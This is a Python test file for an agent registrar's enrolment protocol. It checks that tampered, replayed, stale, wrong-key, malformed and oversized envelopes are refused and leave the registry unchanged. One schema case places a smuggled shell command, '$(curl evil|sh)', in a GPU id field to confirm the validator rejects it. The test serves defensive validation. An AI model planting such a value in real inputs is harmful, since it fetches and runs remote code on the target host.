"""Every refusal reason, driven by real tampered, replayed, expired, wrong-key, oversized and
malformed envelopes: none crashes the Leader, none changes the registry."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from enrolment_factory import agent_keys, craft, record, signed
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from cooee_agent.leader.registrar import Registrar
from cooee_agent.protocol import b64
from cooee_agent.protocol.envelope import MAX_ENVELOPE_BYTES, make_envelope
from cooee_agent.protocol.keys import AgentKeys, LeaderKeys, generate_leader_keys
from cooee_agent.protocol.sealing import address_for, seal_enrolment

NOW = datetime(2026, 3, 1, 12, 0, 0, tzinfo=UTC)


def snapshot(leader: Registrar) -> tuple[list[dict[str, object]], int]:
    nonces = leader.registry._db.execute("SELECT count(*) FROM nonces").fetchone()[0]
    return [h.to_dict() for h in leader.registry.hosts()], nonces


@pytest.fixture
def leader(leader_dir: Path) -> Registrar:
    with Registrar(leader_dir) as instance:
        yield instance


@pytest.fixture
def good(keys: AgentKeys, leader_keys: LeaderKeys) -> bytes:
    return seal_enrolment(record(keys, issued_at=NOW), keys, leader_keys.bundle, sent_at=NOW)


def refused(
    leader: Registrar, envelope: bytes, reason: str, match: str = "", *, resend: bytes | None = None
) -> None:
    """Refused with ``reason``; registry and replay cache untouched; the Leader still works.

    ``resend``: the assignment a repeat of an accepted enrolment must carry again, byte for byte.
    """
    before = snapshot(leader)
    result = leader.ingest(envelope, now=NOW)
    assert (result.accepted, result.reason) == (False, reason), result.detail
    assert match in result.detail
    assert result.assignment_envelope == resend
    assert result.resend == (resend is not None)
    assert snapshot(leader) == before
    fresh = agent_keys()
    bundle = leader.keys.bundle
    ok = leader.ingest(
        seal_enrolment(record(fresh, host=999, issued_at=NOW), fresh, bundle, sent_at=NOW),
        now=NOW,
    )
    assert ok.accepted, ok.detail


def test_flipping_a_body_byte_is_a_bad_signature(leader: Registrar, good: bytes) -> None:
    position = good.index(b"BEGIN AGE ENCRYPTED FILE-----\\n") + 60
    tampered = bytearray(good)
    tampered[position] ^= 0x01
    refused(leader, bytes(tampered), "bad-signature", "envelope signature")


def test_flipping_a_structural_byte_is_a_schema_error(leader: Registrar, good: bytes) -> None:
    tampered = bytearray(good)
    tampered[0] = ord("[")
    refused(leader, bytes(tampered), "schema")


def test_changing_the_signature_is_a_bad_signature(leader: Registrar, good: bytes) -> None:
    value = json.loads(good)
    sig = bytearray(b64.decode(value["sig"]))
    sig[5] ^= 0x80
    value["sig"] = b64.encode(bytes(sig))
    refused(leader, json.dumps(value).encode(), "bad-signature")


def test_the_same_envelope_twice_is_replayed(leader: Registrar, good: bytes) -> None:
    first = leader.ingest(good, now=NOW)
    assert first.accepted and first.assignment_envelope is not None
    refused(leader, good, "replayed", "already seen", resend=first.assignment_envelope)


def test_a_resealed_record_with_a_used_nonce_is_replayed(
    leader: Registrar, keys: AgentKeys, leader_keys: LeaderKeys
) -> None:
    rec = record(keys, issued_at=NOW)
    first = leader.ingest(seal_enrolment(rec, keys, leader_keys.bundle, sent_at=NOW), now=NOW)
    again = seal_enrolment(rec, keys, leader_keys.bundle, sent_at=NOW + timedelta(seconds=5))
    refused(leader, again, "replayed", resend=first.assignment_envelope)


@pytest.mark.parametrize(
    ("sent_at", "issued_at", "match"),
    [
        (NOW - timedelta(minutes=20), NOW - timedelta(minutes=20), "sent_at"),
        (NOW, NOW - timedelta(minutes=20), "issued_at"),
        (NOW + timedelta(minutes=5), NOW, "future"),
    ],
)
def test_old_or_future_envelopes_are_stale(
    leader: Registrar,
    keys: AgentKeys,
    leader_keys: LeaderKeys,
    sent_at: datetime,
    issued_at: datetime,
    match: str,
) -> None:
    rec = record(keys, issued_at=issued_at)
    refused(leader, seal_enrolment(rec, keys, leader_keys.bundle, sent_at=sent_at), "stale", match)


def test_an_envelope_sealed_to_another_leader_is_wrong_recipient(
    leader: Registrar, keys: AgentKeys, tmp_path: Path
) -> None:
    other = generate_leader_keys(tmp_path / "other").bundle
    envelope = seal_enrolment(record(keys, issued_at=NOW), keys, other, sent_at=NOW)
    refused(leader, envelope, "wrong-recipient")


def test_a_record_signed_by_another_key_is_a_key_mismatch(
    leader: Registrar, keys: AgentKeys, leader_keys: LeaderKeys
) -> None:
    intruder = agent_keys()
    body = signed(record(keys, issued_at=NOW).to_dict(), intruder.signing)
    envelope = craft(body, keys.signing, leader_keys.bundle, sent_at=NOW)
    refused(leader, envelope, "key-mismatch", "another key")


def test_a_record_with_a_forged_inner_signature_is_a_bad_signature(
    leader: Registrar, keys: AgentKeys, leader_keys: LeaderKeys
) -> None:
    value = json.loads(signed(record(keys, issued_at=NOW).to_dict(), keys.signing))
    value["record"]["host"]["kernel"] = "forged"
    envelope = craft(json.dumps(value).encode(), keys.signing, leader_keys.bundle, sent_at=NOW)
    refused(leader, envelope, "bad-signature", "record signature")


def test_a_record_naming_another_agent_key_is_a_key_mismatch(
    leader: Registrar, keys: AgentKeys, leader_keys: LeaderKeys
) -> None:
    value = record(keys, issued_at=NOW).to_dict()
    value["agent_key"]["ed25519"] = b64.encode(agent_keys().verify_key)
    envelope = craft(signed(value, keys.signing), keys.signing, leader_keys.bundle, sent_at=NOW)
    refused(leader, envelope, "key-mismatch", "agent_key")


def test_an_agent_key_that_is_not_its_tuples_hash_is_a_key_mismatch(
    leader: Registrar, keys: AgentKeys, leader_keys: LeaderKeys
) -> None:
    value = record(keys, issued_at=NOW).to_dict()
    value["agents"][0]["key"] = "0" * 64
    envelope = craft(signed(value, keys.signing), keys.signing, leader_keys.bundle, sent_at=NOW)
    refused(leader, envelope, "key-mismatch", "SHA-256")


def test_an_address_of_another_agent_is_a_key_mismatch(
    leader: Registrar, keys: AgentKeys, leader_keys: LeaderKeys
) -> None:
    body = signed(record(keys, issued_at=NOW).to_dict(), keys.signing)
    address = address_for("enrolment", "0000000000")
    envelope = craft(body, keys.signing, leader_keys.bundle, address=address, sent_at=NOW)
    refused(leader, envelope, "key-mismatch", "address")


@pytest.mark.parametrize(
    ("mutate", "match"),
    [
        (lambda r: r.update(schema=2), "version 2"),
        (lambda r: r.pop("nonce"), "misses"),
        (lambda r: r.update(extra=1), "unknown field"),
        (lambda r: r["host"].update(arch=86), "must be a string"),
        (lambda r: r["host"].update(os_release="x" * 256), "at most 255"),
        (lambda r: r["agents"][0]["tuple"].update(model="Llama3:8B"), "not canonical"),
        (lambda r: r.update(slots=[]), "0 items"),
        (lambda r: r["slots"][0].update(gpu_id="$(curl evil|sh)"), "slots[0].gpu_id: gpu_id"),
        (
            lambda r: r["slots"][0].update(gpu_id="GPU-" + "a" * 8 + "-1111-2222-3333-" + "b" * 12),
            "slots[0].gpu_id: 'GPU-aaaaaaaa-1111-2222-3333-bbbbbbbbbbbb' is not canonical",
        ),
        (lambda r: r["host"].update(mac="000000000000"), "host.mac: mac '000000000000' is all"),
        (lambda r: r["host"].update(mac="ffffffffffff"), "host.mac: mac 'ffffffffffff' is the"),
        (lambda r: r["host"].update(mac="01005e000001"), "host.mac: mac '01005e000001' is a mul"),
        (lambda r: r["host"].update(hostname="gpu-n\u043ede-01"), "host.hostname: hostname"),
        (lambda r: r["host"].update(hostname="1234"), "all digits and dots"),
    ],
)
def test_records_that_break_the_schema_are_refused(
    leader: Registrar, keys: AgentKeys, leader_keys: LeaderKeys, mutate, match: str
) -> None:
    value = record(keys, issued_at=NOW).to_dict()
    mutate(value)
    envelope = craft(signed(value, keys.signing), keys.signing, leader_keys.bundle, sent_at=NOW)
    refused(leader, envelope, "schema", match)


@pytest.mark.parametrize(
    ("envelope", "match"),
    [
        (b"", "not JSON"),
        (b"\xff\xfe{}", "not UTF-8"),
        (b"[1, 2]", "JSON object"),
        (b'{"v": 1, "v": 1}', "twice"),
        (b'{"v": 1.0}', "non-integer"),
        (b'{"v": NaN}', "not JSON"),
        (b"[" * 100_000, "too large"),
        (b"{" + b" " * MAX_ENVELOPE_BYTES + b"}", "65536-byte limit"),
    ],
)
def test_malformed_envelopes_are_schema_errors(
    leader: Registrar, envelope: bytes, match: str
) -> None:
    refused(leader, envelope, "schema", match if match != "too large" else "")


def test_an_oversized_signed_envelope_is_refused_before_any_work(
    leader: Registrar, keys: AgentKeys, leader_keys: LeaderKeys
) -> None:
    body = signed(record(keys, issued_at=NOW).to_dict(), keys.signing)
    padded = craft(body + b" " * MAX_ENVELOPE_BYTES, keys.signing, leader_keys.bundle, sent_at=NOW)
    refused(leader, padded, "schema", "65536-byte limit")


def test_an_envelope_too_big_to_send_cannot_be_made(keys: AgentKeys) -> None:
    from cooee_agent.protocol.errors import RejectedError

    with pytest.raises(RejectedError, match="limit"):
        make_envelope(
            "intervention", address_for("intervention", "X"), {"x": "a" * 70_000}, keys.signing
        )


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(data=st.data())
def test_no_single_byte_change_is_ever_accepted(leader: Registrar, good: bytes, data) -> None:
    position = data.draw(st.integers(0, len(good) - 1))
    value = data.draw(st.integers(0, 255).filter(lambda b: b != good[position]))
    tampered = good[:position] + bytes([value]) + good[position + 1 :]
    before = snapshot(leader)
    result = leader.ingest(tampered, now=NOW)
    assert not result.accepted
    assert result.reason in ("schema", "bad-signature"), result
    assert snapshot(leader) == before
